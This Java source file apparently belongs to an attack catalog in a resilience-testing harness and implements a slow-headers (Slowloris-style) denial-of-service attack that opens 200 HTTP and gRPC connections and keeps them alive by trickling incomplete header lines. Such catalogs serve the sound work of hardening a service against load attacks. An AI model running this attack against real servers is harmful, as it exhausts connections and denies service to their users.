package dev.sluice.attacks.catalog;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

/** Opens many connections, on each of which a request never gets to the end of its headers. */
final class SlowHeaders extends Attack {
  private static final int CONNECTIONS = 200;

  SlowHeaders() {
    super("slow-headers", Family.CONNECTIONS, Access.NO_KEY, Bounds.of(800, 4, 1));
  }

  @Override
  void run(Attempt attempt) throws InterruptedException {
    attempt.repeat(2, () -> dribble(attempt));
  }

  private static void dribble(Attempt attempt) throws IOException, InterruptedException {
    List<Attempt.Connection> open = new ArrayList<>();
    for (int i = 0; i < CONNECTIONS; i++) {
      Attempt.Connection connection = i % 2 == 0 ? attempt.http() : attempt.bareGrpc();
      open.add(connection);
      connection.send(text(i % 2 == 0 ? "POST /v1/decide HTTP/1.1\r\nHost: x\r\nA: " : "PRI * H"));
    }
    for (int round = 0; attempt.isRunning(); round++) {
      attempt.pause(200);
      for (int i = 0; i < open.size(); i += 2) {
        open.get(i).send(text("b%d\r\nA%d: ".formatted(round, round)));
      }
    }
  }

  private static byte[] text(String text) {
    return text.getBytes(StandardCharsets.US_ASCII);
  }
}
